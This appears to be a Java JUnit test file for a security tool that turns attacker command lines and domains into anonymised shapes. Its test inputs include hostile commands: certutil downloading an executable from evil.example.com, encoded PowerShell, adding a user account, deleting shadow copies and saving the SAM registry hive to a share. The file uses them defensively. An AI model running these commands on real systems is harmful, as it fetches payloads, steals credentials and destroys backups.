package dev.vigil.fleet;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;

/** Command lines and domains generalised to shapes: the technique stays, the tenant's particulars go. */
class PatternShapesTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
            "C:\\Windows\\System32\\cmd.exe /c whoami|<dir>\\cmd.exe /c whoami",
            "C:\\Users\\alice\\AppData\\Local\\Temp\\run.exe --port 4444|<dir>\\run.exe --port <n>",
            "/home/bob/.cache/x.sh 10.1.2.3|<dir>/x.sh <ip>",
            "rundll32.exe {3F2504E0-4F89-11D3-9A0C-0305E82C3301} 0x7ffe0000|rundll32.exe <guid> <hex>",
            "certutil -urlcache -f http://evil.example.com/a.exe a.exe|certutil -urlcache -f <url> a.exe",
            "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA|powershell.exe -nop -enc <b64>",
            "net user mallory P4ss /add|net user <user> p4ss /add",
            "runas /user:CORP\\carol cmd.exe|runas /user:<user> cmd.exe",
            "ssh -u dave host|ssh -u <user> host",
            "vssadmin   delete shadows  /all   /quiet|vssadmin delete shadows /all /quiet",
            "reg save HKLM\\SAM \\\\fileserver\\share\\sam.hiv|reg save hklm\\sam <dir>\\sam.hiv",
            "tool.exe deadbeef01 42|tool.exe <hex> <n>",
    })
    void commandLinesAreGeneralised(String commandLine, String shape) {
        assertEquals(shape, PatternShapes.commandLine(commandLine));
    }

    @Test
    void theSameTechniqueAtTwoTenantsHasOneShape() {
        assertEquals(PatternShapes.commandLine("C:\\Users\\alice\\Temp\\dropper.exe -p 8080 -id 1f2e3d4c5b6a"),
                PatternShapes.commandLine("c:\\users\\BOB\\Downloads\\Dropper.exe -p 443 -id 9a8b7c6d5e4f"));
    }

    @Test
    void aShapeHoldsNoUserNameHostAddressOrNumberOfTheCommandLine() {
        String shape = PatternShapes.commandLine("C:\\Users\\alice\\x.exe \\\\ws-0042\\c$ 10.9.8.7 12345 /user:alice");
        for (String secret : new String[]{"alice", "ws-0042", "10.9.8.7", "12345"}) {
            assertFalse(shape.contains(secret), secret + " is in " + shape);
        }
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
            "xk3j9a.evil-cdn.com|a9{6}.a-{8}.com",
            "Login.Example.ORG.|a{5}.a{7}.org",
            "123.cdn[.]example[.]net|9{3}.a{3}.a{7}.net",
    })
    void domainsAreShapedByLabelClassAndLength(String domain, String shape) {
        assertEquals(shape, PatternShapes.domain(domain));
    }

    @Test
    void ofPicksTheDomainShapeOnlyWhenAskedByPrefix() {
        assertEquals("a{4}.a{7}.com", PatternShapes.of("domain:evil.example.com"));
        assertEquals("cmd.exe /c dir", PatternShapes.of("cmd.exe /c dir"));
        assertEquals("lsass.exe", PatternShapes.of("lsass.exe"));
    }

    @Test
    void anEmptyPatternOrANonDomainIsRefused() {
        assertEquals("an empty pattern cannot be anonymised",
                assertThrows(IllegalArgumentException.class, () -> PatternShapes.commandLine("  ")).getMessage());
        assertEquals("not a domain name: 'not a domain'",
                assertThrows(IllegalArgumentException.class, () -> PatternShapes.domain("not a domain")).getMessage());
    }
}
